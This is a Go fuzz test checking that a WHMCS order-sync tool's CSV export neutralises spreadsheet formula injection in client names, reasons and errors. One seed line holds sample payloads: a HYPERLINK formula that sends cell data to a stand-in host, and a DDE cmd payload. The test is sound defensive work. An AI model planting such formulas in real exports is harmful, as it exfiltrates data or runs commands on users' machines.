package sync_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"whmcs-eracuni/store"
	"whmcs-eracuni/sync"
)

// formulaStart is what a spreadsheet reads as the start of a formula (or
// of a cell it may run as one): =, +, -, @, tab and carriage return.
const formulaStart = "=+-@\t\r"

// neutralised is the cell the export must write for free text: the text
// itself, or with a leading apostrophe when a spreadsheet would run it.
func neutralised(s string) string {
	if s != "" && strings.ContainsRune(formulaStart, rune(s[0])) {
		return "'" + s
	}
	return s
}

// csvRead is what a CSV reader gives back for a written cell: encoding/csv
// reads a "\r\n" inside a quoted cell as "\n".
func csvRead(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }

// FuzzWriteCSV exports a run whose texts come from WHMCS customers (client
// names) and from servers (reasons, errors, numbers) and reads the file
// back with encoding/csv: every row has every column, every cell reads back
// as written, and no free-text cell can start a spreadsheet formula.
// Seeds: testdata/fuzz/FuzzWriteCSV and the f.Add calls below.
func FuzzWriteCSV(f *testing.F) {
	f.Add("Žiga Čeh", "Created as sales order 2026-00042", "", "4726193850", "2026-00042")
	f.Add(`=HYPERLINK("http://evil.example/?"&A1,"Klikni")`, "+cmd|' /C calc'!A0", "-2+3", "=1+1", "@SUM(A1:A9)")
	f.Add("\tTab d.o.o.", "\rCR", "a \"quoted\", comma\nand newline", "", "\r\n")
	f.Add("Zoë 🦊 بن علي", "\u202eevil\u202c", "\xff\xfe broken", "0", "60:251861")
	f.Add("", "", "", "", "")
	f.Fuzz(func(t *testing.T, client, reason, errText, orderNum, docNum string) {
		r := store.Run{ID: "2026-12-03T15:04:05Z-1a2b", Orders: []store.RunOrder{
			{Kind: "order", ID: 57, OrderNum: orderNum, Date: "2026-12-03", Client: client, Amount: "9.90", Currency: "EUR",
				Action: "create", Reason: reason, DocumentID: "60:251861", DocumentNumber: docNum, Error: errText},
			{Kind: "order", ID: 58, OrderNum: docNum, Client: errText, Action: "fail", Error: client},
		}}
		var b bytes.Buffer
		if err := sync.WriteCSV(&b, r); err != nil {
			t.Fatalf("WriteCSV: %v", err)
		}
		recs, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
		if err != nil {
			t.Fatalf("the export does not read back as CSV: %v\n%q", err, b.String())
		}
		if len(recs) != 3 {
			t.Fatalf("%d records, want a header and 2 rows:\n%q", len(recs), b.String())
		}
		col := map[string]int{}
		for i, name := range recs[0] {
			col[name] = i
		}
		check := func(row int, name, want string, free bool) {
			t.Helper()
			got := recs[row][col[name]]
			if free {
				want = neutralised(want)
				if got != "" && strings.ContainsRune(formulaStart, rune(got[0])) {
					t.Errorf("row %d %s %q starts a formula", row, name, got)
				}
			}
			if got != csvRead(want) {
				t.Errorf("row %d %s reads back as %q, want %q", row, name, got, csvRead(want))
			}
		}
		check(1, "client", client, true)
		check(1, "reason", reason, true)
		check(1, "error", errText, true)
		check(1, "ordernum", orderNum, false)
		check(1, "document_number", docNum, false)
		check(1, "whmcs_order_id", "57", false)
		check(2, "client", errText, true)
		check(2, "error", client, true)
		check(2, "ordernum", docNum, false)
	})
}
